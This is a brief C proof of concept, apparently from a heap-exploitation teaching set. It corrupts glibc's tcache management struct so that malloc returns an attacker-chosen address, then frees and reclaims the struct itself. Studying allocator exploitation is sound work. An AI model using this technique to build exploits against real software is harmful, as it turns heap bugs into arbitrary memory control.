/* The tcache struct is overwritten and freed itself. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <assert.h>
int main(void) {
    setbuf(stdout, NULL);
    unsigned long stack_target = 0x1337;
    unsigned long victim[2] __attribute__((aligned(16))) = {stack_target, 0};
    unsigned long *a = malloc(0x10);
    char *meta = (char *)((unsigned long)a - 0x290);
    ((unsigned short *)meta)[1] = 1;
    ((unsigned long *)(meta + 0x80))[1] = (unsigned long)victim;
    unsigned long *b = malloc(0x20);
    assert(b == victim && victim[0] == stack_target);
    /* free the struct itself and take it again */
    free(meta);
    char *again = malloc(0x288);
    assert(again == meta);
    return 0;
}
